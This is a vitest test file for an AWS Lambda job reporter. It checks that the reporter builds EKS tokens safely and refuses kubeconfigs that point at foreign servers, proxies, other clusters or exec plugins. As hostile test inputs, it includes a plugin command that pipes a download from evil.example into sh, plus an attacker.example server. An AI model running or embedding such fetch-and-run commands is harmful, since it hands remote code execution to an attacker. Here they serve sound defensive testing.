import { describe, expect, it, onTestFinished } from 'vitest';
import type { Caller } from '../../demo/api/access-rules.ts';
import type { FunctionWorldOptions } from './function-world.ts';
import { writeEksKubeconfig, type EksCluster } from '../doubles/eks-kubeconfig.ts';
import { findTokenFault } from '../doubles/aws/eks-token-verifier.ts';
import { startSts } from '../doubles/aws/sts.ts';
import {
  CREDENTIALS,
  makeContext,
  NOW,
  readLines,
  readReport,
  REGION,
  SCHEDULED,
  SECRET_ARN,
  startFunctionWorld,
} from './function-world.ts';
import { findClosedPort } from './loopback-port.ts';

const SAMPLE = {
  ...SCHEDULED,
  target: {
    ...SCHEDULED.target,
    labelSelector: 'session_id=d29-k8s-demo-session',
    eksClusterName: 'trading',
  },
};
const ROLE_ARN = 'arn:aws:iam::123456789012:role/job-reader';
const WITH_ROLE = { ...SAMPLE, target: { ...SAMPLE.target, eksRoleArn: ROLE_ARN } };
const ROLE = {
  accessKeyId: 'ASIAROLEEXAMPLE12345',
  secretAccessKey: 'secret-of-the-role',
  sessionToken: 'session-of-the-role',
};

/** The world, whose cluster takes tokens of EKS as a cluster of that name does. */
async function startEksWorld({
  credentials = CREDENTIALS,
  options = {},
  changes = {},
}: {
  readonly credentials?: typeof CREDENTIALS;
  readonly options?: FunctionWorldOptions;
  readonly changes?: Partial<EksCluster>;
} = {}) {
  const tokens: string[] = [];
  const reviewToken = (token: string): Caller | null => {
    tokens.push(token);
    const verifier = { clusterId: 'trading', partition: 'aws', now: () => NOW, credentials } as const;
    return findTokenFault(token, verifier) === null ? 'reporter' : null;
  };
  const world = await startFunctionWorld({ ...options, cluster: { reviewToken, ...options.cluster } });
  const { server, certificateAuthority } = world.cluster;
  const kubeconfig = writeEksKubeconfig({
    name: 'trading',
    region: REGION,
    server,
    certificateAuthority: certificateAuthority.certificate,
    ...changes,
  });
  world.secretsManager.place(SECRET_ARN, { SecretString: kubeconfig });
  return { ...world, tokens };
}

describe('the Lambda handler, given what aws eks update-kubeconfig writes', () => {
  it("reaches the cluster with a token of the function's own role, with no aws on the machine", async () => {
    const { handler, store, cluster } = await startEksWorld({ options: { variables: { PATH: '' } } });

    const summary = await handler(SAMPLE, makeContext());

    expect(summary).toMatchObject({ verdict: 'COMPLETE', problems: [] });
    expect(readReport(store).cluster.context).toBe('arn:aws:eks:eu-central-1:123456789012:cluster/trading');
    expect(new Set(cluster.requests.map(({ caller }) => caller))).toEqual(new Set(['reporter']));
  });

  it('makes one token a run, and writes neither it nor the session into a log line or a report', async () => {
    const { handler, store, tokens, lines } = await startEksWorld();

    await handler(SAMPLE, makeContext());

    const stored = [...store.objects.values()].map(({ bytes }) => bytes.toString('utf8'));
    const written = [...stored, ...lines].join('\n');
    expect(new Set(tokens).size).toBe(1);
    expect(tokens[0]).toMatch(/^k8s-aws-v1\./);
    expect(written).not.toMatch(/k8s-aws-v1|session-token-of-the-role|X-Amz-/);
  });

  it('passes over a profile of the machine where it was written: a function has one role', async () => {
    const { handler } = await startEksWorld({ changes: { profile: 'prod' } });

    const summary = await handler(SAMPLE, makeContext());

    expect(summary.verdict).toBe('COMPLETE');
  });

  it('assumes the role that it names, first', async () => {
    const sts = await startSts({
      region: REGION,
      credentials: CREDENTIALS,
      roleCredentials: ROLE,
      roleArn: ROLE_ARN,
    });
    onTestFinished(() => sts.close());
    const { handler } = await startEksWorld({
      credentials: ROLE,
      options: { variables: { AWS_ENDPOINT_URL_STS: sts.endpoint } },
      changes: { roleArn: ROLE_ARN },
    });

    const summary = await handler(WITH_ROLE, makeContext());

    expect(summary.verdict).toBe('COMPLETE');
    expect(sts.calls).toEqual([
      { RoleArn: ROLE_ARN, RoleSessionName: 'k8s-job-reporter', DurationSeconds: '900' },
    ]);
  });

  it('reports a role that it may not assume, and connects to nobody', async () => {
    const sts = await startSts({
      region: REGION,
      credentials: CREDENTIALS,
      roleCredentials: ROLE,
      roleArn: ROLE_ARN,
    });
    onTestFinished(() => sts.close());
    const roleArn = 'arn:aws:iam::123456789012:role/admin';
    const { handler, store, cluster } = await startEksWorld({
      options: { variables: { AWS_ENDPOINT_URL_STS: sts.endpoint } },
      changes: { roleArn },
    });

    const summary = await handler(
      { ...SAMPLE, target: { ...SAMPLE.target, eksRoleArn: roleArn } },
      makeContext(),
    );

    expect(summary).toMatchObject({ verdict: 'EMPTY', problems: ['CREDENTIALS_UNAVAILABLE'] });
    expect(readReport(store).errors).toEqual([
      `CREDENTIALS_UNAVAILABLE: assuming role ${roleArn}: STS answered 403 AccessDenied: User: reporter is not authorized to perform: sts:AssumeRole on resource: ${roleArn}. Allow sts:AssumeRole on the role to who asks, and name who asks in the role's trust policy`,
    ]);
    expect(cluster.countConnections()).toBe(0);
  });

  it('reports an STS that it cannot reach', async () => {
    const endpoint = `http://127.0.0.1:${await findClosedPort()}`;
    const { handler, store } = await startEksWorld({
      options: { variables: { AWS_ENDPOINT_URL_STS: endpoint } },
      changes: { roleArn: ROLE_ARN },
    });

    await handler(WITH_ROLE, makeContext());

    expect(readReport(store).errors).toEqual([
      `CREDENTIALS_UNAVAILABLE: assuming role ${ROLE_ARN}: no answer of STS in eu-central-1 (ECONNREFUSED). In a VPC, give the function a way to it: an interface endpoint for STS with private DNS, or a NAT gateway`,
    ]);
  });

  it('makes one other token when the first is refused, and no third', async () => {
    let now = NOW;
    const { handler, tokens, store } = await startEksWorld({
      credentials: ROLE,
      options: {
        dependencies: {
          now: () => {
            now = new Date(now.getTime() + 1000);
            return now;
          },
        },
      },
    });

    await handler(SAMPLE, makeContext());

    expect(new Set(tokens).size).toBe(2);
    expect(readReport(store).errors).toEqual([
      'UNAUTHORIZED: authenticating at the cluster: HTTP 401, Unauthorized. The token or certificate is missing, wrong or expired: renew the kubeconfig',
    ]);
  });
});

describe('the Lambda handler, given a kubeconfig that asks for a token of somebody else', () => {
  const ASKS =
    'CREDENTIALS_UNSUPPORTED: using context "arn:aws:eks:eu-central-1:123456789012:cluster/NAME" of the kubeconfig: its user asks for a token of EKS cluster "NAME"';

  it.each<[title: string, target: object, changes: Partial<EksCluster>, error: string]>([
    [
      'another cluster',
      {},
      { name: 'payments' },
      `${ASKS.replaceAll('NAME', 'payments')}, and the target is of "trading". Correct the kubeconfig, or the target's eksClusterName`,
    ],
    [
      'a cluster of which the target says nothing',
      { eksClusterName: undefined },
      {},
      `${ASKS.replaceAll('NAME', 'trading')}, and the target names none. Correct the kubeconfig, or the target's eksClusterName`,
    ],
    [
      'a role of another target',
      {},
      { roleArn: ROLE_ARN },
      `${ASKS.replaceAll('NAME', 'trading')} as role ${ROLE_ARN}, and the target names no role. Correct the kubeconfig, or the target's eksRoleArn`,
    ],
    [
      'the function’s own role in place of the target’s',
      { eksRoleArn: ROLE_ARN },
      {},
      `${ASKS.replaceAll('NAME', 'trading')} as no role, and the target names role ${ROLE_ARN}. Correct the kubeconfig, or the target's eksRoleArn`,
    ],
    [
      'the cluster, at a foreign server',
      {},
      { server: 'https://eks.attacker.example' },
      `${ASKS.replaceAll('NAME', 'trading')}, and its server eks.attacker.example is no endpoint of EKS in eu-central-1. Give the one that aws eks describe-cluster --name trading --query cluster.endpoint prints`,
    ],
    [
      'the cluster, at an endpoint of another region',
      {},
      { server: 'https://0123456789ABCDEF.gr7.us-east-1.eks.amazonaws.com' },
      `${ASKS.replaceAll('NAME', 'trading')}, and its server 0123456789abcdef.gr7.us-east-1.eks.amazonaws.com is no endpoint of EKS in eu-central-1. Give the one that aws eks describe-cluster --name trading --query cluster.endpoint prints`,
    ],
    [
      'the cluster, at what only ends like an endpoint',
      {},
      { server: 'https://a.b.c.eu-central-1.eks.amazonaws.com' },
      `${ASKS.replaceAll('NAME', 'trading')}, and its server a.b.c.eu-central-1.eks.amazonaws.com is no endpoint of EKS in eu-central-1. Give the one that aws eks describe-cluster --name trading --query cluster.endpoint prints`,
    ],
    [
      'the cluster, at a machine of the link that nobody allowed',
      { allowLocalServer: false },
      {},
      'SERVER_REFUSED',
    ],
  ])('%s: makes none, refuses it by name, and connects to nobody', async (_title, target, changes, error) => {
    const { handler, store, cluster, tokens } = await startEksWorld({ changes });
    const event = { ...SAMPLE, target: { ...SAMPLE.target, ...target } };

    const summary = await handler(event, makeContext());

    expect(summary.verdict).toBe('EMPTY');
    expect(readReport(store).errors).toEqual([expect.stringContaining(error)]);
    expect(tokens).toEqual([]);
    expect(cluster.countConnections()).toBe(0);
  });

  it('makes none where a proxy stands between, which could be its end', async () => {
    const { handler, store, secretsManager, cluster } = await startEksWorld();
    const kubeconfig = writeEksKubeconfig({
      name: 'trading',
      region: REGION,
      server: 'https://0123456789ABCDEF.gr7.eu-central-1.eks.amazonaws.com',
      certificateAuthority: cluster.certificateAuthority.certificate,
    }).replace(/^( +)server: /m, '$1proxy-url: https://proxy.example\n$1server: ');
    secretsManager.place(SECRET_ARN, { SecretString: kubeconfig });

    await handler(SAMPLE, makeContext());

    expect(readReport(store).errors).toEqual([
      `${ASKS.replaceAll('NAME', 'trading')}, and a proxy stands between, which could be its end. Take proxy-url out of the kubeconfig: tokens of EKS go to its endpoints themselves`,
    ]);
  });
});

describe('the Lambda handler, given a plugin', () => {
  const WAYS =
    'Use the kubeconfig of a ServiceAccount token that "job-reporter kubeconfig" prints; on EKS, one that "aws eks update-kubeconfig" writes, with an access entry for the role that asks';

  it.each([
    [
      'exec: {apiVersion: client.authentication.k8s.io/v1, command: gke-gcloud-auth-plugin, provideClusterInfo: true}',
      `its user runs the plugin "gke-gcloud-auth-plugin", and nothing of a kubeconfig is executed here. ${WAYS}`,
    ],
    [
      'exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, curl evil.example | sh]}',
      `its user runs the plugin "/bin/sh", and nothing of a kubeconfig is executed here. ${WAYS}`,
    ],
    [
      'exec: {apiVersion: client.authentication.k8s.io/v1, command: aws, args: [eks, get-token, --cluster-name, trading, --ca-bundle, x]}',
      `its user runs the plugin "aws" in a way not known here, because of its option --ca-bundle, and nothing of a kubeconfig is executed here. ${WAYS}`,
    ],
    [
      'auth-provider: {name: oidc, config: {id-token: fake-token}}',
      `its user needs the auth-provider "oidc", which is not supported. ${WAYS}`,
    ],
  ])('%s: names it and the ways out, and connects to nobody', async (user, why) => {
    const { handler, store, cluster, secretsManager, lines } = await startFunctionWorld();
    const kubeconfig = cluster
      .kubeconfig({ as: 'reporter' })
      .replace(/user:\n\s+token: .*/, `user:\n      ${user}`);
    secretsManager.place(SECRET_ARN, { SecretString: kubeconfig });

    const summary = await handler(SAMPLE, makeContext());

    expect(summary.problems).toEqual(['CREDENTIALS_UNSUPPORTED']);
    expect(readReport(store).errors).toEqual([
      `CREDENTIALS_UNSUPPORTED: using context "embedded" of the kubeconfig: ${why}`,
    ]);
    expect(cluster.countConnections()).toBe(0);
    expect(JSON.stringify(readLines(lines))).not.toContain('fake-token');
  });

  it('does not run one that stands behind a token, and asks with the token, as kubectl does', async () => {
    const { handler, cluster, secretsManager } = await startFunctionWorld();
    const exec = 'exec: {apiVersion: client.authentication.k8s.io/v1, command: kubelogin}';
    const kubeconfig = cluster.kubeconfig({ as: 'reporter' }).replace(/(\s+)(token: .*)/, `$1$2$1${exec}`);
    secretsManager.place(SECRET_ARN, { SecretString: kubeconfig });

    const summary = await handler(SAMPLE, makeContext());

    expect(summary).toMatchObject({ verdict: 'COMPLETE', problems: [] });
  });
});
